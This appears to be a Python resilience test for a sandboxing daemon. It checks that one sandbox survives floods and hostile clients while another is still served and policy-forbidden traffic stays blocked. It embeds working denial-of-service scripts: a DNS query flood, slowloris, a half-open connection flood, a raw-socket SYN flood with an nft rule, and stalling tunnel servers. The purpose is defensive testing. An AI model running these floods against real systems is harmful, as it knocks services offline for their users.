# SPDX-License-Identifier: Apache-2.0
"""Floods, clients that take forever and servers that are no good, in one
sandbox of a daemon: its own processes live and stay small, another sandbox is
served as before, and not a packet leaves that policy forbids.

The ratios are of small requests of the other sandbox, with the attack to
without, and in parentheses to when as many processors are just burned."""
from pressure_lab import Pressure

DNS_FLOOD = r"""
def say_count():
    while True: time.sleep(0.2); open(WHERE, "w").write(str(n))
n = 0
threading.Thread(target=say_count, daemon=True).start()
s = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(8)]
[x.connect((GW, 53)) for x in s]; [x.setblocking(False) for x in s]
print("on", flush=True)
while True:
    n += 1
    what = [b"f%d.evil.test", b"f%d.tunnel.test", b"x%d.allowed.test"][n % 3] % n
    try: s[n % 8].send(query(name(what), ident=n & 65535))
    except OSError: pass
    try: s[n % 8].recv(4096)
    except OSError: pass
"""


def test_pressure(case):
    pressure = Pressure(case)
    try:
        flood(case, pressure)
        for name, attack in ATTACKS.items():
            pressure.attack(name, attack)
    finally:
        pressure.stop()


def flood(case, pressure):
    path = case.lab.dir + "/asked"

    def asked():
        try:
            with open(path) as f:
                return int(f.read() or 0)
        except FileNotFoundError:
            return 0
    pressure.attack("DNS flood, 50000 questions",
                    DNS_FLOOD.replace("WHERE", repr(path)), rounds=15,
                    enough=lambda: asked() >= 50000)


# Heads that come a byte at a time.
SLOWLORIS = r"""
q = b""
while b"\xc0\x0c\0\1\0\1" not in q: q = udp(query(name(b"allowed.test")))  # of the flood before it one may be lost
a = socket.inet_ntoa(q[q.index(b"\xc0\x0c\0\1\0\1") + 12:][:4])
WHAT = [((GW, PORT), b"GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nX: " + b"y" * 4000),
        ((GW, PORT), b"\5\1\0\5\1\0\3\x0callowed.test"), ((a, 443), hello("allowed.test")),
        ((a, 80), b"GET / HTTP/1.1\r\nHost: allowed.test\r\n")]
held = []
for i in range(240):
    try:
        s = dial(WHAT[i % 4][0], 5); s.setblocking(False); held.append([s, WHAT[i % 4], 0])
    except OSError: pass
def trickle():
    while True:
        for h in held:
            try: h[0].send(h[1][1][h[2]:h[2] + 1]); h[2] += 1
            except OSError:
                try: h[0].close(); h[0] = dial(h[1][0], 5); h[0].setblocking(False); h[2] = 0
                except OSError: pass
        time.sleep(0.2)
print("on", flush=True); trickle()
"""

# Flows to servers that are no good; what they do with them is up to them.
BAD_SERVER = r"""
import select
def tunnel(port):
    s = dial((GW, PORT), 5)
    s.sendall(b"CONNECT allowed.test:%%d HTTP/1.1\r\nHost: allowed.test:%%d\r\n\r\n" %% (port, port))
    got = b""
    while not got.endswith(b"\r\n\r\n"):
        d = s.recv(1)
        if not d: raise OSError
        got += d
    s.setblocking(False)
    return s
held = []
def refill():
    while len(held) < 60:
        try: held.append(tunnel(%d))
        except OSError: return
refill(); print("on", flush=True)
while True:
    for s in list(held):
        try: s.send(b"z" * 65536)
        except BlockingIOError: pass
        except OSError: held.remove(s); s.close(); continue
        try:
            if %d and not s.recv(65536): raise OSError
        except BlockingIOError: pass
        except OSError: held.remove(s); s.close()
    refill(); time.sleep(0.02)
"""

HALF_OPEN = r"""
import resource
resource.setrlimit(resource.RLIMIT_NOFILE, (12000, 12000))
held = []
def fill():
    while len(held) < 10000:
        s = socket.socket(); s.setblocking(False)
        try: s.connect((GW, PORT))
        except BlockingIOError: pass
        except OSError: s.close(); return
        held.append(s)
fill(); print("on", flush=True)
while True:
    time.sleep(0.3)
    # Those that were refused come again.
    for s in held[:500]: s.close()
    del held[:500]; fill()
"""

# A SYN, and never more: what answers is dropped on the way back. (The ports are
# none that the sandbox takes by itself: afterwards it is served again.)
SYNS = r"""
import subprocess
def sum16(d):
    t = sum(struct.unpack(">%dH" % (len(d) // 2), d))
    while t >> 16: t = (t & 0xffff) + (t >> 16)
    return ~t & 0xffff
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect((GW, 53)); src = socket.inet_aton(u.getsockname()[0]); dst = socket.inet_aton(GW)
subprocess.run(["nft", "-f", "-"], input="table inet mute { chain c { type filter hook input priority 0; tcp flags & (syn|ack) == (syn|ack) tcp dport 10000-19999 drop; }; }", text=True, check=True)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
def syn(sport):
    h = struct.pack(">HHIIBBHHH", sport, PORT, 7, 0, 0x50, 2, 64240, 0, 0)
    c = sum16(src + dst + struct.pack(">HH", 6, len(h)) + h)
    raw.sendto(h[:16] + struct.pack(">H", c) + h[18:], (GW, 0))
print("on", flush=True)
while True:
    for p in range(10000, 20000): syn(p)
    time.sleep(0.2)
"""

ATTACKS = {
    "slowloris, 240 flows": SLOWLORIS,
    "10000 flows without data": HALF_OPEN,
    "10000 SYNs and no more": SYNS,
    "server never reads": BAD_SERVER % (8090, 0),
    "server never closes": BAD_SERVER % (8091, 0),
    "server closes early": BAD_SERVER % (8092, 1),
    "server resets": BAD_SERVER % (8093, 1),
    "server, a byte a second": BAD_SERVER % (8094, 1),
}
